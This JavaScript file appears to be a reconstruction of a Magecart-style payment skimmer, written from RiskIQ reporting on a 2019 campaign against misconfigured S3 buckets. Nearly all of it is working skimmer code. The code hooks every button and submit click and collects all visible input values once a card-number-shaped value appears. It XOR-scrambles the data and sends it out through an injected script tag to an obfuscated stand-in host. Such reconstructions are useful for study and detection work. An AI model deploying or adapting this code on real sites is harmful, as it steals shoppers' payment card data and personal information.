// s3-spray (variant b), written from RiskIQ, "Magecart Group 'Spray and Pray' campaign
// compromises misconfigured Amazon S3 buckets" (2019), and RiskIQ's later note on the same
// group's appended skimmers: the code is appended to a bucket-hosted library and, since it
// cannot know the site, watches every button and input; when a value shaped like a card
// number has been typed it sends the whole page's input values, joined and XOR-scrambled,
// as a query string of an injected script tag on a host put together from pieces.
;(function () {
  var host = ["https://", "s3-", "bucket", "-metrics", ".invalid", "/pixel.js"].join("");
  function scramble(str) {
    var k = 23, out = "";
    for (var i = 0; i < str.length; i++) out += ("0" + (str.charCodeAt(i) ^ k).toString(16)).slice(-2);
    return out;
  }
  var seen = "";
  function harvest() {
    var inputs = document.getElementsByTagName("input"), parts = [], card = false;
    for (var i = 0; i < inputs.length; i++) {
      var v = inputs[i].value;
      if (!v || inputs[i].type === "hidden") continue;
      if (/^[0-9 ]{13,19}$/.test(v)) card = true;
      parts.push((inputs[i].name || inputs[i].id) + ":" + v);
    }
    var joined = parts.join(";");
    if (!card || joined === seen) return;
    seen = joined;
    var t = document.createElement("script");
    t.src = host + "?v=" + scramble(joined) + "&h=" + encodeURIComponent(location.hostname);
    document.body.appendChild(t);
  }
  document.addEventListener("click", function (e) {
    if (e.target.tagName === "BUTTON" || e.target.type === "submit") harvest();
  }, true);
})();
